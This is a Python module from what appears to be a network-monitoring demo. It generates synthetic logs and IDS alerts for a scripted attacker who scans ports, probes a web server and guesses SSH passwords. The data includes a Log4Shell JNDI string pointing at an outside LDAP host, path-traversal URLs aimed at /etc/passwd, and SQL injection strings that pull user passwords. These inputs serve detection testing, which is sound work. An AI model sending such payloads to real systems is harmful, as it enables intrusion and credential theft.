"""The attacker looks around and tries doors: port scans, a web scanner, and password guessing."""

import random
from collections.abc import Iterator

from netsentinel.demo import cast, eve, zeek
from netsentinel.demo.conversations import converse
from netsentinel.demo.model import Outcome, Request, StoryLine
from netsentinel.demo.traffic import MILLISECOND, between, fetch, over
from netsentinel.kernel.clock import SECOND
from netsentinel.kernel.types import Micros

NMAP = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
NIKTO = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)"
LOG4SHELL = "${jndi:ldap://203.0.113.66:1389/a}"
SQLMAP = "sqlmap/1.8.4#stable (https://sqlmap.org)"
GUESSED_LOGINS = 84

_NMAP_ALERT = (
    2_009_358,
    "ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)",
    "Web Application Attack",
    1,
)
_SSH_SCAN_ALERT = (2_001_219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2)
_OPEN_ON_WEB = {22: "ssh", 80: "http", 443: "ssl"}
_PROBED_PORTS = 160
_WIDE_NOTICE, _DEEP_NOTICE, _GUESSING_NOTICE = 20, 15, 30  # when Zeek's own policies speak up
_GUESSER = "libssh2_1.11.0"
_SSH_SERVER = "OpenSSH_9.2p1 Debian-2+deb12u2"

_NMAP_URLS = ("/", "/robots.txt", "/.git/HEAD", "/nmaplowercheck1717000000", "/HNAP1", "/sdk", "/evox/about")
_NIKTO_URLS = (
    "/admin/",
    "/phpmyadmin/",
    "/wp-login.php",
    "/.env",
    "/.htpasswd",
    "/backup.zip",
    "/config.php.bak",
    "/server-status",
    "/cgi-bin/test.cgi",
    "/cgi-bin/..%2f..%2f..%2f..%2fetc/passwd",
    "/index.php?page=../../../../etc/passwd",
    "/icons/",
    "/uploads/",
    "/web.config",
    "/test.php",
    "/info.php",
)
_SQLMAP_URLS = (
    "/people?page=2%27%20AND%201=1--",
    "/people?page=2%20UNION%20SELECT%20NULL,NULL,NULL--",
    "/people?page=2%20UNION%20ALL%20SELECT%20user,password%20FROM%20users--",
    "/people?page=2%20AND%20SLEEP(5)--",
)


def scan(rng: random.Random, start: Micros) -> Iterator[StoryLine]:
    """First the SSH port of every address in the DMZ, then many ports of the web server."""
    answering = {cast.WEB_SERVER.address, cast.JUMP_HOST.address}
    at = start
    for number in range(1, 63):
        address = f"{cast.DMZ_PREFIX}{number}"
        outcome = Outcome.COMPLETE if address in answering else Outcome.SILENT
        talk = converse(
            rng,
            cast.ATTACKER.address,
            address,
            22,
            start=at,
            duration=between(rng, 20 * MILLISECOND, SECOND),
            received=40 if outcome is Outcome.COMPLETE else 0,
            service="ssh" if outcome is Outcome.COMPLETE else "",
            outcome=outcome,
        )
        yield from over(talk)
        if number == _WIDE_NOTICE:
            message = f"{talk.client} scanned at least {_WIDE_NOTICE} unique hosts on port 22/tcp in 0m6s"
            yield zeek.notice(talk, talk.end, "Scan::Address_Scan", message, "remote")
            yield eve.alert(talk, talk.start, _SSH_SCAN_ALERT)
        at += between(rng, 200 * MILLISECOND, 400 * MILLISECOND)
    yield from _probe_ports(rng, start + 50 * SECOND)


def _probe_ports(rng: random.Random, start: Micros) -> Iterator[StoryLine]:
    ports = rng.sample([port for port in range(1, 10_000) if port not in _OPEN_ON_WEB], _PROBED_PORTS)
    ports += list(_OPEN_ON_WEB)
    rng.shuffle(ports)
    at = start
    for number, port in enumerate(ports, 1):
        talk = converse(
            rng,
            cast.ATTACKER.address,
            cast.WEB_SERVER.address,
            port,
            start=at,
            duration=between(rng, 400, 2 * MILLISECOND),
            service=_OPEN_ON_WEB.get(port, ""),
            outcome=Outcome.COMPLETE if port in _OPEN_ON_WEB else Outcome.REFUSED,
        )
        yield from over(talk)
        if number == _DEEP_NOTICE:
            message = f"{talk.client} scanned at least {_DEEP_NOTICE} unique ports of host {talk.server} in 0m4s"
            yield zeek.notice(talk, talk.end, "Scan::Port_Scan", message, "remote")
        at += between(rng, 150 * MILLISECOND, 320 * MILLISECOND)


def web_scan(rng: random.Random, start: Micros) -> Iterator[StoryLine]:
    """Scanners try known paths, traversals, Log4Shell and SQL injection on the web server; almost nothing answers."""
    plans = [(NMAP, url) for url in _NMAP_URLS]
    plans += [(NIKTO, url) for url in _NIKTO_URLS]
    plans += [(LOG4SHELL, "/")]
    plans += [(SQLMAP, url) for url in _SQLMAP_URLS]
    at = start
    for agent, url in plans:
        status = 200 if url in {"/", "/uploads/"} or agent == SQLMAP else 404
        probe = Request(host=cast.WEB_SERVER.name, url=url, agent=agent, status=status, length=196)
        talk, lines = fetch(rng, cast.ATTACKER, cast.WEB_SERVER, at, [probe])
        yield from lines
        if agent == NMAP:
            yield eve.alert(talk, at + 60 * MILLISECOND, _NMAP_ALERT, request=probe)
        at += between(rng, SECOND, 4 * SECOND)


def guessing(rng: random.Random, start: Micros) -> Iterator[StoryLine]:
    """One password after the other on the jump host, until the account `deploy` gives in."""
    at = start
    for number in range(1, GUESSED_LOGINS + 2):
        success = number > GUESSED_LOGINS
        talk = converse(
            rng,
            cast.ATTACKER.address,
            cast.JUMP_HOST.address,
            22,
            start=at,
            duration=300 * SECOND if success else between(rng, 900 * MILLISECOND, 2 * SECOND),
            sent=41_000 if success else 1_900,
            received=96_000 if success else 2_500,
            service="ssh",
        )
        concluded = at + 800 * MILLISECOND
        attempts = 1 if success else rng.randint(1, 3)
        yield eve.ssh(talk, at + 30 * MILLISECOND, _GUESSER, _SSH_SERVER)
        yield zeek.ssh(talk, concluded, success=success, attempts=attempts, client=_GUESSER, server=_SSH_SERVER)
        if number == _GUESSING_NOTICE:
            message = f"{talk.client} appears to be guessing SSH passwords (seen in {_GUESSING_NOTICE} connections)."
            yield zeek.notice(talk, concluded, "SSH::Password_Guessing", message)
        yield from over(talk)
        at += between(rng, 1_600 * MILLISECOND, 2_800 * MILLISECOND)
